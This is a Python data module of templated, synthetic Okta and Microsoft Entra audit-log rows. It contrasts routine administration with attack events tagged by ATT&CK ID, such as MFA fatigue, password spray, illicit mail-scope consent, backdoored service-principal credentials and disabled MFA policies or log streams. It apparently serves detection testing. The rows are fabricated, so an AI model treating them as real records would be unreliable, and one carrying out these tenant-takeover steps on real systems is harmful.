# ruff: noqa: E501
"""What identity providers, code hosts and services of companies write of daily work and of attacks, beyond saas_tables.py and cloud_identity_tables.py.

A row is an operation and the JSON of its own fields, as audit_identity.py puts them into each service's form; `_odd` and `_who` as in saas_tables.py.
"""
from __future__ import annotations

from .phrases import phrased
from .table import Scenario, table

_TEXT = r"""
@@ okta
# okta things asked for by their owners
user.account.report_suspicious_activity_by_enduser {"_odd":0,"reason":"own new phone, closed @ticket@","debug":{"suspiciousActivityEventType":"system.email.new_device_notification.sent_message","suspiciousActivityBrowser":"CHROME"}}
user.mfa.okta_verify.deny_push {"_odd":0,"message":"User rejected Okta push verify","debug":{"deviceName":"iPhone","note":"pressed by mistake"}}
user.session.impersonation.«grant|initiate|extend|end|revoke» {"_who":"admin","_odd":0,"message":"Okta impersonation session granted","debug":{"expiration":"«date:%Y-%m-%d»","note":"Okta support case «num:1000000:2999999» @ticket@"}}
group.privilege.«grant|revoke» {"_who":"admin","_odd":0,"target":["UserGroup:«Help desk|App owners «dept»»"],"debug":{"privilegeGranted":"«Help Desk administrator|Application administrator (Jira)|Report administrator»"}}
user.account.«update_primary_email|update_secondary_email|update_user_type|update_profile» {"_who":"«admin|service»","_odd":0,"target":["User:@mate@"],"debug":{"newValue":"«first».«last»@«sitedomain»","note":"name change"}}
«zone.delete|zone.deactivate|policy.rule.delete|policy.lifecycle.deactivate|system.log_stream.lifecycle.delete» {"_who":"admin","_odd":0,"target":["«PolicyEntity|NetworkZone|LogStream»:«test|old|poc»-«word»"],"debug":{"changeDetails":"{\"status\":\"INACTIVE\"}","note":"@ticket@"}}
application.«policy.sign_on.update|user_membership.show_password|provision.user.push» {"_who":"admin","_odd":0,"target":["AppInstance:«Jira|Wiki|Figma»"],"debug":{"changeDetails":"{\"from\":\"Password only\",\"to\":\"Any two factors\"}"}}
app.oauth2.«token.detect_reuse|as.consent.grant» {"_odd":0,"outcome":"«FAILURE|SUCCESS»","reason":"«refresh token retried after a timeout|»","target":["AppInstance:«Mobile app|Jira»"],"debug":{"grantedScopes":"openid profile offline_access"}}
security.«attack.start|attack.end|breached_credential.detected» {"_who":"service","actor":"SystemPrincipal","_odd":0,"outcome":"«DENY|SUCCESS»","reason":"«penetration test @ticket@|consumer password found in list, not the one in use»"}
# okta people come and go
user.session.start {"factor":"«PASSWORD|OTP|ASSERTION»","uri":"/idp/idx/identify","message":"User login to Okta"}
user.authentication.auth_via_mfa {"factor":"OTP","credential":"OKTA_CREDENTIAL_PROVIDER","provider":"FACTOR_PROVIDER","debug":{"factor":"«OKTA_VERIFY_PUSH|FIDO2_WEBAUTHN|SIGNED_NONCE|OKTA_SOFT_TOKEN»","factorIntent":"AUTHENTICATION","pushOnlyResponseType":"OV_RESPONSE_ALLOW","pushWithNumberChallengeResponseType":"OV_WITH_CHALLENGE_RESPONSE_ALLOW"},"uri":"/idp/idx/challenge/answer"}
user.authentication.sso {"target":["AppInstance:«Microsoft Office 365|Slack|Workday|AWS IAM Identity Center|Zoom|Jira»","AppUser:«user»"],"detail":{"signOnModeType":"«SAML_2_0|OPENID_CONNECT»"},"uri":"/app/«token:10»/sso/saml","debug":{"audience":"urn:«word»","initiationType":"«IDP_INITIATED|SP_INITIATED»"}}
policy.evaluate_sign_on {"outcome":"«ALLOW|CHALLENGE»","reason":"Sign-on policy evaluation resulted in «ALLOW|CHALLENGE»","target":["PolicyEntity:Any two factors","PolicyRule:Catch-all Rule"],"debug":{"logOnlySecurityData":"{\"risk\":{\"level\":\"LOW\"},\"behaviors\":{}}"}}
user.authentication.«verify|auth_via_AD_agent|auth_via_IDP|auth_unlock_via_mfa» {"outcome":"«SUCCESS|SUCCESS|FAILURE»","reason":"«INVALID_CREDENTIALS|»","provider":"«ACTIVE_DIRECTORY|FACTOR_PROVIDER»"}
user.session.«end|clear|context.change» {"message":"User logout from Okta","uri":"/login/signout"}
user.authentication.auth_via_mfa {"outcome":"FAILURE","reason":"«INVALID_CREDENTIALS|User rejected Okta push verify|OTP_EXPIRED»","debug":{"factor":"OKTA_VERIFY_PUSH","pushOnlyResponseType":"OV_RESPONSE_DENY"},"_odd":0}
# T1621 okta people deceived
user.authentication.auth_via_mfa {"_odd":«num:3:6»,"outcome":"FAILURE","reason":"FastPass declined phishing attempt","debug":{"factor":"SIGNED_NONCE","factorIntent":"AUTHENTICATION","originMismatch":"https://«site»-okta.«domain»"},"uri":"/idp/idx/authenticators/poll"}
user.authentication.auth_via_mfa {"_odd":«num:3:6»,"debug":{"factor":"OKTA_VERIFY_PUSH","pushOnlyResponseType":"OV_RESPONSE_ALLOW","pushWithNumberChallengeResponseType":"NONE"},"uri":"/api/v1/authn/factors/«token:20»/verify"}
user.mfa.okta_verify.deny_push {"_odd":«num:3:6»,"outcome":"SUCCESS","message":"User rejected Okta push verify","debug":{"deviceName":"«iPhone|Pixel»"}}
user.account.report_suspicious_activity_by_enduser {"_odd":«num:2:6»,"debug":{"suspiciousActivityEventType":"«system.email.new_device_notification.sent_message|user.mfa.factor.activate»","suspiciousActivityBrowser":"«UNKNOWN|FIREFOX»"}}
user.authentication.sso {"_odd":«num:4:6»,"target":["AppInstance:«Okta Admin Console|AWS IAM Identity Center|GitHub Enterprise|Snowflake»","AppUser:«admin»"],"detail":{"signOnModeType":"SAML_2_0"},"debug":{"initiationType":"IDP_INITIATED"}}
user.session.start {"_odd":«num:4:6»,"factor":"«ASSERTION|PASSWORD»","message":"User login to Okta","uri":"/login/sessionCookieRedirect","debug":{"proxyType":"anonymous","tunnels":"[{\"anonymous\":true,\"operator\":\"«TOR|NORDVPN|MULLVAD_VPN»\"}]"}}
policy.evaluate_sign_on {"_odd":«num:3:6»,"outcome":"«DENY|ALLOW»","reason":"Sign-on policy evaluation resulted in «DENY|ALLOW»","target":["PolicyEntity:Okta Admin Console","PolicyRule:Catch-all Rule"],"debug":{"logOnlySecurityData":"{\"risk\":{\"level\":\"HIGH\"},\"behaviors\":{\"New Geo-Location\":\"POSITIVE\",\"New Device\":\"POSITIVE\",\"Velocity\":\"POSITIVE\"}}"}}
# okta directory by its administrators
user.lifecycle.«create|activate|suspend|deactivate|unsuspend|reactivate» {"_who":"admin","target":["User:@mate@"],"uri":"/api/v1/users","debug":{"changeDetails":"{\"status\":\"«ACTIVE|DEPROVISIONED»\"}"}}
group.user_membership.«add|remove» {"_who":"«admin|service»","target":["User:@mate@","UserGroup:«dept»"],"debug":{"triggeredByGroupRuleId":"0pr«token:17»"}}
application.user_membership.«add|remove|change_username» {"_who":"«admin|service»","target":["User:@mate@","AppInstance:«Slack|Zoom|Jira|Salesforce»"]}
user.mfa.factor.«reset_all|deactivate|activate|suspend» {"_who":"admin","_odd":0,"target":["User:@mate@"],"reason":"User «reset all|deactivated SMS_FACTOR|set up OKTA_VERIFY» factor","debug":{"factor":"«OKTA_VERIFY_PUSH|SMS_FACTOR»","caller":"help desk @ticket@"}}
user.account.«reset_password|unlock_by_admin|update_profile|expire_password» {"_who":"admin","_odd":0,"target":["User:@mate@"],"uri":"/api/v1/users/00u«token:17»/lifecycle/reset_password"}
system.«agent.ad.import_user|agent.ad.invoke_dir|import.complete|import.group.create|agent.ad.realtimesync» {"actor":"SystemPrincipal","_who":"service","target":["AppInstance:«ad»"],"uri":"/api/1/internal/app/activedirectory/«token:10»/agent"}
# T1556 okta directory bent
user.account.privilege.grant {"_who":"admin","_odd":«num:0:5»,"target":["User:«@mate@|@junk@@«sitedomain»»","ROLE:«Super administrator|Organization administrator|App administrator»"],"debug":{"privilegeGranted":"«Super administrator|Organization administrator»"}}
user.mfa.factor.«reset_all|deactivate» {"_who":"admin","_odd":«num:1:6»,"target":["User:«admin»@«sitedomain»"],"reason":"User reset all factors","debug":{"factor":"«FIDO_WEBAUTHN|OKTA_VERIFY_PUSH»"}}
user.mfa.factor.activate {"_odd":«num:3:6»,"target":["User:«admin»@«sitedomain»"],"reason":"User set up «SMS_FACTOR|OKTA_SOFT_TOKEN|CALL_FACTOR» factor","debug":{"factor":"«SMS_FACTOR|CALL_FACTOR»","phoneNumber":"XXX-XXX-«num:1000:9999»"}}
user.account.«update_primary_email|update_secondary_email|update_user_type|reset_password» {"_odd":«num:2:6»,"target":["User:@mate@"],"debug":{"newValue":"@outsider@"}}
group.privilege.grant {"_who":"admin","_odd":«num:0:5»,"target":["UserGroup:«Everyone|Contractors|@junk@»"],"debug":{"privilegeGranted":"«Super administrator|Read-only administrator, Application administrator (all)»"}}
user.session.impersonation.«grant|initiate|extend» {"_odd":«num:0:5»,"target":["User:«admin»@«sitedomain»"],"message":"Okta impersonation session «initiated|granted»"}
user.lifecycle.«create|activate» {"_who":"admin","_odd":«num:1:6»,"target":["User:«svc-«letters:3:5»|okta.support|«letters:4:8»»@«sitedomain»"],"uri":"/api/v1/users","debug":{"changeDetails":"{\"status\":\"ACTIVE\",\"secondEmail\":\"@outsider@\"}"}}
# okta settings kept
security.«threat.detected|request.blocked» {"_who":"service","actor":"SystemPrincipal","_odd":«num:1:3»,"outcome":"DENY","reason":"Login failures","debug":{"threatDetections":"{\"Login failures\":\"LOW\"}"}}
policy.«rule.update|rule.add|lifecycle.update|rule.deactivate|lifecycle.create» {"_who":"admin","_odd":0,"target":["PolicyEntity:«Okta Admin Console|Default Policy|Contractors»","PolicyRule:«Phishing resistant|Managed devices»"],"debug":{"changeDetails":"{\"from\":{\"factorMode\":\"1FA\"},\"to\":{\"factorMode\":\"2FA\",\"constraints\":\"phishingResistant\"}}"}}
application.«lifecycle.create|lifecycle.update|policy.sign_on.update|lifecycle.deactivate|cors.update» {"_who":"admin","_odd":0,"target":["AppInstance:«Datadog|Notion|Figma|«Word»»"],"debug":{"changeDetails":"{\"label\":\"«Word»\"}"}}
system.api_token.«create|revoke|update» {"_who":"admin","_odd":0,"target":["Token:«terraform|siem-reader|hr-sync»"],"uri":"/api/internal/tokens","debug":{"networkConnection":"«peer»/32"}}
zone.«update|create|make_blacklist» {"_who":"admin","_odd":0,"target":["NetworkZone:«Office|BlockedIpZone|VPN»"],"debug":{"changeDetails":"{\"gateways\":[\"«peer»/32\"]}"}}
system.idp.«lifecycle.update|lifecycle.create|key.create|lifecycle.activate» {"_who":"admin","_odd":0,"target":["IdpInstance:«Google|«Word» partner»"],"debug":{"issuer":"https://accounts.google.com","note":"@ticket@"}}
system.log_stream.lifecycle.«create|update|activate|deactivate» {"_who":"admin","_odd":0,"target":["LogStream:«splunk|test-«word»»"],"uri":"/api/v1/logStreams"}
user.account.privilege.«grant|revoke» {"_who":"admin","_odd":0,"target":["User:@mate@","ROLE:«Help Desk Administrator|Report Administrator|Group Administrator»"],"debug":{"privilegeGranted":"«Help Desk administrator|Report administrator»"}}
app.oauth2.«token.grant.access_token|as.token.grant.id_token|token.grant.refresh_token|client.lifecycle.create» {"_who":"service","actor":"PublicClientApp","target":["AppInstance:«Terraform|SIEM|Backup»"],"debug":{"grantedScopes":"okta.«logs|users|groups».read","grantType":"client_credentials"},"uri":"/oauth2/v1/token"}
# T1562 okta settings undone
policy.«rule.update|rule.deactivate|lifecycle.deactivate|rule.delete» {"_who":"admin","_odd":«num:0:5»,"target":["PolicyEntity:«Okta Admin Console|Global session|MFA Enrollment»","PolicyRule:«Phishing resistant|Admins»"],"debug":{"changeDetails":"{\"from\":{\"factorMode\":\"2FA\"},\"to\":{\"factorMode\":\"1FA\",\"action\":\"ALLOW\"}}"}}
system.idp.lifecycle.«create|activate|update» {"_who":"admin","_odd":«num:0:5»,"target":["IdpInstance:@junk@"],"debug":{"issuer":"https://«domain»/saml2","subjectFilter":".*","accountLinkAction":"AUTO"}}
system.api_token.create {"_who":"admin","_odd":«num:2:6»,"target":["Token:«test|«letters:3:6»|backup»"],"uri":"/api/internal/tokens","debug":{"networkConnection":"ANYWHERE"}}
zone.«update|deactivate|delete|create» {"_who":"admin","_odd":«num:0:5»,"target":["NetworkZone:«BlockedIpZone|Office|LegacyIpZone»"],"debug":{"changeDetails":"{\"gateways\":[\"«0.0.0.0/0|«pub»/32»\"],\"type\":\"trusted\"}"}}
system.log_stream.lifecycle.«deactivate|delete» {"_who":"admin","_odd":«num:0:5»,"target":["LogStream:«splunk|siem-prod|aws-eventbridge»"],"uri":"/api/v1/logStreams"}
app.oauth2.«client.lifecycle.create|token.grant.access_token|as.consent.grant|token.detect_reuse» {"_odd":«num:2:6»,"target":["AppInstance:@junk@"],"debug":{"grantedScopes":"okta.«users.manage okta.apps.manage|roles.manage»","grantType":"«client_credentials|device_code»"},"uri":"/oauth2/v1/token"}
application.«policy.sign_on.update|lifecycle.update|user_membership.show_password|provision.user.push» {"_who":"admin","_odd":«num:1:5»,"target":["AppInstance:«AWS IAM Identity Center|Microsoft Office 365|CyberArk»"],"debug":{"changeDetails":"{\"from\":\"Any two factors\",\"to\":\"Password only\"}"}}
security.«threat.detected|attack.start|breached_credential.detected|request.blocked» {"actor":"SystemPrincipal","_odd":«num:2:6»,"outcome":"«DENY|ALLOW»","reason":"«Password Spray|Suspected brute force|Login failures with high unknown users count»","debug":{"threatDetections":"{\"Password Spray\":\"HIGH\"}"}}
@@ sign_in
# entra refusals of ordinary days
«500121|50072|50158|50199» {"app":"«OfficeHome|Outlook Mobile|Azure Portal»","detail":"MFA denied; «user did not respond to mobile app notification|authentication timed out»","methods":["Mobile app notification"],"_odd":0}
«53000|530032|530035» {"app":"«Office 365 SharePoint Online|Outlook Mobile|Microsoft Teams»","access":"failure","_odd":0}
«50133|50173|70043|700082» {"kind":"NonInteractiveUserSignInLogs","app":"«Outlook Mobile|OneDrive SyncEngine|Microsoft Teams»","token":"refreshToken","detail":"password changed","_odd":0}
«7000112|90002|700016» {"_who":"service","kind":"ServicePrincipalSignInLogs","app":"«old-sync|@thing@»","credential":"clientSecret","resource":"Microsoft Graph"}
«50034|50056|50053» {"app":"Office 365 Exchange Online","client":"Exchange ActiveSync","detail":"phone of a leaver","_odd":0}
# entra people sign in
0 {"app":"«Office 365 Exchange Online|Microsoft Teams|OfficeHome|SharePoint Online Web Client Extensibility|My Apps»","resource":"«Office 365 Exchange Online|Microsoft Graph»","methods":["«Passwordless phone sign-in|FIDO2 security key|Mobile app notification|Windows Hello for Business|Previously satisfied»"],"detail":"MFA requirement satisfied by claim in the token"}
0 {"kind":"NonInteractiveUserSignInLogs","app":"«Microsoft Authentication Broker|OneDrive SyncEngine|Outlook Mobile|Microsoft Edge»","client":"Mobile Apps and Desktop clients","token":"primaryRefreshToken","agent":"«Windows-AzureAD-Authentication-Provider/1.0|Mozilla/5.0 (compatible; MSAL 1.0) PKeyAuth/1.0»"}
«50126|50053|50055|50074|50076|50140|65001|50058|16000» {"app":"«Office 365 Exchange Online|Azure Portal|OfficeHome»","access":"notApplied"}
53003 {"app":"«Office 365 SharePoint Online|Outlook Mobile»","access":"failure","_odd":«0|1»}
0 {"app":"«Azure Portal|Microsoft Azure CLI|Microsoft Azure PowerShell|Visual Studio Code»","resource":"Windows Azure Service Management API","_who":"admin","methods":["FIDO2 security key"],"client":"Mobile Apps and Desktop clients"}
0 {"app":"«ServiceNow|Salesforce|AWS IAM Identity Center|GitHub Enterprise Managed User|Zscaler»","resource":"«ServiceNow|Salesforce»","methods":["Previously satisfied"],"access":"success"}
0 {"app":"Microsoft Teams","user":"Guest","tenant":"b2bCollaboration","methods":["Mobile app notification"]}
# T1078.004 entra sessions in strange hands
0 {"_odd":«num:3:6»,"app":"«OfficeHome|Office 365 Exchange Online|Microsoft Azure PowerShell»","need":"singleFactorAuthentication","access":"notApplied","methods":["Password"],"risks":["«unfamiliarFeatures|anonymizedIPAddress|unlikelyTravel|maliciousIPAddress»"]}
0 {"_odd":«num:3:6»,"app":"Microsoft Authentication Broker","resource":"«Device Registration Service|Microsoft Graph»","protocol":"deviceCode","client":"Mobile Apps and Desktop clients","detail":"MFA requirement satisfied by claim in the token","risks":["anomalousToken"]}
0 {"_odd":«num:3:6»,"kind":"NonInteractiveUserSignInLogs","app":"«Microsoft Office|Microsoft Teams|Microsoft Azure CLI»","resource":"«Microsoft Graph|Windows Azure Active Directory»","token":"refreshToken","client":"Mobile Apps and Desktop clients","agent":"«python-requests/2.«num:25:32».0|axios/1.«num:2:7».«num:0:9»|Mozilla/5.0 (X11; Linux x86_64; rv:«num:100:131».0) Gecko/20100101 Firefox/«num:100:131».0»","risks":["anomalousToken","attackerinTheMiddle"]}
0 {"_odd":«num:2:6»,"app":"Office 365 Exchange Online","client":"«IMAP4|Authenticated SMTP|Exchange ActiveSync|POP3|Other clients»","need":"singleFactorAuthentication","agent":"BAV2ROPC","protocol":"ropc","methods":["Password"],"access":"notApplied"}
0 {"_odd":«num:2:6»,"app":"«Azure Portal|Microsoft Azure Active Directory Connect»","user":"Guest","tenant":"«b2bCollaboration|passthrough»","resource":"Windows Azure Service Management API","need":"singleFactorAuthentication"}
50199 {"_odd":«num:3:6»,"app":"Microsoft Authentication Broker","protocol":"deviceCode"}
# T1110.003 entra doors tried
«50126|50053|50034|50056» {"_odd":«num:3:6»,"_who":"unknown","app":"«Azure Active Directory PowerShell|Microsoft Azure CLI|Office 365 Exchange Online»","need":"singleFactorAuthentication","client":"«Mobile Apps and Desktop clients|Authenticated SMTP|Other clients»","protocol":"ropc","access":"notApplied"}
«500121|50158|50072» {"_odd":«num:3:6»,"app":"«OfficeHome|Azure Portal|My Signins»","detail":"MFA denied; «user declined the authentication|fraud code entered|phone app reported fraud|duplicate authentication attempt»","methods":["Mobile app notification"]}
«53003|530032|53000|530035» {"_odd":«num:4:6»,"app":"«Microsoft Graph Command Line Tools|Azure Portal|Office 365 Exchange Online»","access":"failure"}
50053 {"_odd":«num:3:6»,"_who":"unknown","app":"Office 365 Exchange Online","risks":["maliciousIPAddress"]}
«70043|50133|50173|700082» {"_odd":«num:3:6»,"kind":"NonInteractiveUserSignInLogs","app":"«OfficeHome|Microsoft Teams»","token":"refreshToken"}
# entra programs and machines sign in
0 {"_who":"service","kind":"ServicePrincipalSignInLogs","app":"«terraform-prod|backup-veeam|servicenow-sync|github-oidc»","credential":"«clientAssertion|certificate|federatedIdentityCredential|clientSecret»","resource":"«Azure Resource Manager|Microsoft Graph»","principal":"«terraform-prod|backup-veeam|@thing@»"}
0 {"_who":"service","kind":"ManagedIdentitySignInLogs","app":"@thing@","credential":"managedIdentity","resource":"«Azure Key Vault|Azure Storage|Azure Resource Manager»"}
«7000215|7000222|700016» {"_who":"service","kind":"ServicePrincipalSignInLogs","app":"@thing@","credential":"clientSecret"}
0 {"kind":"NonInteractiveUserSignInLogs","app":"«Windows Sign In|Microsoft Intune Company Portal|Windows Update for Business»","token":"primaryRefreshToken","client":"Mobile Apps and Desktop clients","resource":"«Device Registration Service|Microsoft Intune Enrollment»"}
0 {"app":"«Microsoft Teams Rooms|Microsoft Azure CLI|Surface Hub»","protocol":"deviceCode","client":"Mobile Apps and Desktop clients","_odd":0,"detail":"MFA completed in Azure AD"}
0 {"_who":"service","app":"Office 365 Exchange Online","client":"«Authenticated SMTP|IMAP4»","need":"singleFactorAuthentication","protocol":"ropc","agent":"BAV2ROPC","access":"success","_odd":0,"detail":"scanner in «city»"}
# T1550.001 entra programs used by others
0 {"_odd":«num:2:6»,"kind":"ServicePrincipalSignInLogs","app":"«terraform-prod|backup-veeam|@thing@»","credential":"clientSecret","resource":"«Microsoft Graph|Windows Azure Active Directory|Azure Key Vault»","principal":"«terraform-prod|backup-veeam|@thing@»"}
0 {"_odd":«num:2:6»,"kind":"ServicePrincipalSignInLogs","app":"@junk@","credential":"«certificate|clientAssertion»","resource":"«Office 365 Exchange Online|Microsoft Graph»","principal":"@junk@","tenant":"serviceProvider"}
0 {"_odd":«num:3:6»,"kind":"ManagedIdentitySignInLogs","app":"@thing@","credential":"managedIdentity","resource":"«Microsoft Graph|Azure Key Vault»"}
«7000215|700016|7000112|90002» {"_odd":«num:3:6»,"kind":"ServicePrincipalSignInLogs","app":"«terraform-prod|@thing@»","credential":"clientSecret","resource":"Azure Resource Manager"}
0 {"_odd":«num:3:6»,"app":"Microsoft Azure Active Directory Connect","client":"Mobile Apps and Desktop clients","need":"singleFactorAuthentication","resource":"Windows Azure Active Directory","protocol":"ropc"}
@@ directory
# entra settings changed with care
User has elevated their access to User Access Administrator for their Azure Resources {"_who":"admin","_odd":0,"category":"AzureRBACRoleManagementElevateAccess","service":"Azure RBAC (Elevated Access)","target":"Other:«tenant»","details":{"note":"subscription transfer @ticket@"}}
Add federated identity credential to application {"_who":"admin","_odd":0,"category":"ApplicationManagement","target":"Application:«github-oidc|@thing@»","set":{"FederatedIdentityCredentials":["[]","Issuer=https://token.actions.githubusercontent.com, Subject=repo:«site»/«word»:ref:refs/heads/main"]}}
«Disable Strong Authentication|Enable Strong Authentication» {"_who":"admin","_odd":0,"category":"UserManagement","target":"User:@mate@","set":{"StrongAuthenticationRequirement":["Enforced","«Disabled, now by policy|Enabled»"]},"details":{"ticket":"@ticket@"}}
«Delete conditional access policy|Update conditional access policy|Delete named location» {"_who":"admin","_odd":0,"category":"Policy","service":"Conditional Access","target":"Policy:«TEST|Pilot|Report only» «Word»","set":{"ConditionalAccessPolicy":["{\"state\":\"enabledForReportingButNotEnforced\"}","{\"state\":\"disabled\"}"]}}
«Add member to role outside of PIM (permanent)|Add eligible member to role in PIM completed (permanent)» {"_who":"admin","_odd":0,"category":"RoleManagement","service":"PIM","target":"Role:«Global Reader|Reports Reader|Attack Simulation Administrator»","also":["@mate@"],"reason":"@ticket@"}
«Add partner to company|Add delegated admin relationship|Create company|Set federation settings on domain» {"_who":"admin","_odd":0,"category":"DirectoryManagement","target":"Other:«Word» Licensing","set":{"PartnerType":["","Reseller"],"Roles":["","«Directory Readers|Service Support Administrator»"]},"details":{"ticket":"@ticket@"}}
«Add external user to application|Bulk invite users - finished (bulk)|Bulk create users - finished (bulk)|Download users - finished (bulk)» {"_who":"admin","category":"UserManagement","target":"User:@partner@","details":{"count":"«num:2:60»"}}
# entra people and groups kept
«Add member to group|Remove member from group|Add owner to group» {"_who":"admin","category":"GroupManagement","target":"User:@mate@","set":{"Group.DisplayName":["","«dept»"],"Group.ObjectID":["","«guid»"]}}
«Update user|Add user|Disable account|Enable account|Delete user|Restore user» {"by":"«app|user»","_who":"admin","app":"«Microsoft Entra Connect|Workday to Entra|MS-PIM»","category":"UserManagement","target":"User:@mate@","set":{"«Department|JobTitle|AccountEnabled|StrongAuthenticationPhoneAppDetail»":["","«dept»"]}}
«Reset user password|Reset password (by admin)|Change password (self-service)|Reset password (self-service)» {"_who":"admin","_odd":0,"category":"UserManagement","service":"Self-service Password Management","target":"User:@mate@","reason":"Successfully completed reset."}
«User registered security info|User deleted security info|User changed default security info|User started security info registration» {"_odd":0,"category":"UserManagement","service":"Authentication Methods","target":"User:«user»@«sitedomain»","reason":"User registered «Authenticator App with Notification and Code|Fido2 security key|Windows Hello»"}
«Admin registered security info|Admin deleted security info|Create Temporary Access Pass method for user» {"_who":"admin","_odd":0,"category":"UserManagement","service":"Authentication Methods","target":"User:@mate@","reason":"Admin registered temporary access pass method for user","details":{"ticket":"@ticket@"}}
«Invite external user|Redeem external user invite|Add external user to application» {"category":"UserManagement","service":"Invited Users","target":"User:@partner@","also":["«Word» project"],"details":{"InvitationId":"«guid»"}}
«Register device|Add registered owner to device|Update device|Add device» {"by":"app","app":"Device Registration Service","category":"Device","target":"Device:«workstation»","set":{"TrustType":["","«Azure AD joined|Hybrid Azure AD joined»"]}}
# T1098.005 entra people and factors of others
«User registered security info|User changed default security info|User deleted security info» {"_odd":«num:3:6»,"category":"UserManagement","service":"Authentication Methods","target":"User:«admin»@«sitedomain»","reason":"User registered «Mobile Phone Call and SMS|Authenticator App with Code|Software OATH token»"}
«Admin registered security info|Admin deleted security info|Create Temporary Access Pass method for user» {"_who":"admin","_odd":«num:1:6»,"category":"UserManagement","service":"Authentication Methods","target":"User:«ceo|cfo|«admin»|breakglass»@«sitedomain»","reason":"Admin registered «phone|temporary access pass» method for user"}
«Reset user password|Reset password (by admin)|Reset password (self-service)» {"_who":"admin","_odd":«num:2:6»,"category":"UserManagement","service":"Self-service Password Management","target":"User:«admin|breakglass|globaladmin|«admin»»@«sitedomain»","reason":"Successfully completed reset."}
«Register device|Add device|Add registered owner to device» {"_odd":«num:2:6»,"category":"Device","target":"Device:DESKTOP-«HEX:7»","set":{"TrustType":["","Azure AD joined"],"OperatingSystem":["","«Windows|Linux»"]},"details":{"User-Agent":"«DeviceManagementClient|Dsreg/10.0 (Windows 10.0.19044)|python-requests/2.«num:25:32».0»"}}
«Update user|Restore user|Enable account» {"_who":"admin","_odd":«num:1:6»,"category":"UserManagement","target":"User:«breakglass|old-admin|sync»@«sitedomain»","set":{"«AccountEnabled|PasswordPolicies|OnPremisesImmutableId|StrongAuthenticationRequirement»":["false","«true|DisablePasswordExpiration|«b64:20»»"]}}
«Invite external user|Add user» {"_odd":«num:1:6»,"category":"UserManagement","service":"Invited Users","target":"User:@outsider@","set":{"UserType":["Guest","Member"]}}
Add member to group {"_who":"admin","_odd":«num:0:6»,"category":"GroupManagement","target":"User:«@outsider@|«user»@«sitedomain»»","set":{"Group.DisplayName":["","«MFA-Exclude|CA-Exclusions|AWS-Admins|Break Glass»"]}}
# entra programs kept
«Add application|Update application|Add service principal|Add owner to application|Add owner to service principal» {"_who":"admin","category":"ApplicationManagement","target":"Application:«Word» «tech»","set":{"«AppAddress|RequiredResourceAccess»":["","https://«word».«sitedomain»/callback"]}}
«Update application – Certificates and secrets management|Update application - Certificates and secrets management |Add service principal credentials» {"_who":"admin","_odd":0,"category":"ApplicationManagement","target":"Application:«terraform|hr-sync|@thing@»","set":{"KeyDescription":["[]","[KeyIdentifier=«guid»,KeyType=«Password|AsymmetricX509Cert»,KeyUsage=Verify,DisplayName=rotation «date:%Y-%m»]"]}}
Consent to application {"_odd":0,"category":"ApplicationManagement","target":"ServicePrincipal:«Zoom|Calendly|Adobe Acrobat|Notion»","set":{"ConsentContext.IsAdminConsent":["","False"],"ConsentAction.Permissions":["[]","ConsentType: Principal, Scope: «User.Read openid profile|Calendars.Read offline_access»"]}}
«Add delegated permission grant|Add app role assignment to service principal|Add app role assignment grant to user» {"_who":"admin","_odd":0,"category":"ApplicationManagement","target":"ServicePrincipal:«Microsoft Graph|Zoom»","set":{"«AppRole.Value|DelegatedPermissionGrant.Scope»":["","«User.Read.All|Group.Read.All|Calendars.Read»"]},"details":{"ticket":"@ticket@"}}
«Remove service principal|Delete application|Remove delegated permission grant|Hard Delete application» {"_who":"admin","category":"ApplicationManagement","target":"ServicePrincipal:«test|old|poc»-«word»"}
# T1098.001 entra programs given to others
«Update application – Certificates and secrets management|Add service principal credentials» {"_odd":«num:0:6»,"category":"ApplicationManagement","target":"ServicePrincipal:«Office 365 Exchange Online|Microsoft Graph|Microsoft Azure AD Connect|backup-veeam|terraform-prod»","set":{"KeyDescription":["[]","[KeyIdentifier=«guid»,KeyType=«Password|AsymmetricX509Cert»,KeyUsage=Verify,DisplayName=«|«letters:2:6»»]"]}}
Consent to application {"_odd":«num:0:6»,"category":"ApplicationManagement","target":"ServicePrincipal:«@junk@|Document Viewer|eM Client|PERFECTDATA SOFTWARE»","set":{"ConsentContext.IsAdminConsent":["","«True|False»"],"ConsentAction.Permissions":["[]","ConsentType: «AllPrincipals|Principal», Scope: Mail.ReadWrite Mail.Send Files.ReadWrite.All offline_access"]}}
«Add delegated permission grant|Add app role assignment to service principal» {"_odd":«num:0:6»,"category":"ApplicationManagement","target":"ServicePrincipal:Microsoft Graph","set":{"AppRole.Value":["","«RoleManagement.ReadWrite.Directory|AppRoleAssignment.ReadWrite.All|Mail.ReadWrite|full_access_as_app|Directory.ReadWrite.All»"]},"also":["@junk@"]}
«Add owner to application|Add owner to service principal» {"_who":"admin","_odd":«num:0:6»,"category":"ApplicationManagement","target":"User:«@outsider@|«user»@«sitedomain»»","set":{"ServicePrincipal.DisplayName":["","«terraform-prod|Microsoft Azure AD Connect|backup-veeam»"]}}
«Add application|Add service principal» {"_odd":«num:1:6»,"category":"ApplicationManagement","target":"Application:@junk@","set":{"AvailableToOtherTenants":["false","true"],"RequiredResourceAccess":["[]","Mail.ReadWrite, Files.ReadWrite.All"],"AppAddress":["","https://«domain»/«letters:3»"]}}
Add federated identity credential to application {"_odd":«num:0:6»,"category":"ApplicationManagement","target":"Application:«terraform-prod|@thing@»","set":{"FederatedIdentityCredentials":["[]","Issuer=https://«domain», Subject=«letters:5»"]}}
# entra roles lent and returned
«Add member to role completed (PIM activation)|Remove member from role (PIM activation expired)|Add member to role requested (PIM activation)|Add member to role approval requested (PIM activation)» {"category":"RoleManagement","service":"PIM","target":"Role:«Exchange Administrator|Intune Administrator|Security Reader|Global Administrator»","reason":"«@ticket@|quarterly «Word» patch»","details":{"RoleDefinitionOriginType":"BuiltInRole","StartTime":"«date:%Y-%m-%d»"}}
«Add eligible member to role in PIM completed (timebound)|Update role setting in PIM|Add member to role in PIM completed (timebound)» {"_who":"admin","_odd":0,"category":"RoleManagement","service":"PIM","target":"Role:«Helpdesk Administrator|Teams Administrator|Global Reader»","also":["@mate@"],"reason":"@ticket@"}
«Add member to role|Remove member from role» {"_who":"admin","_odd":0,"category":"RoleManagement","target":"User:@mate@","set":{"Role.DisplayName":["","«Helpdesk Administrator|License Administrator|Groups Administrator|Directory Readers»"]}}
«Update conditional access policy|Add conditional access policy|Add named location|Update named location» {"_who":"admin","_odd":0,"category":"Policy","service":"Conditional Access","target":"Policy:«Require MFA for admins|Block legacy authentication|Compliant devices»","set":{"ConditionalAccessPolicy":["{\"state\":\"enabledForReportingButNotEnforced\"}","{\"state\":\"enabled\",\"grantControls\":[\"mfa\"]}"]}}
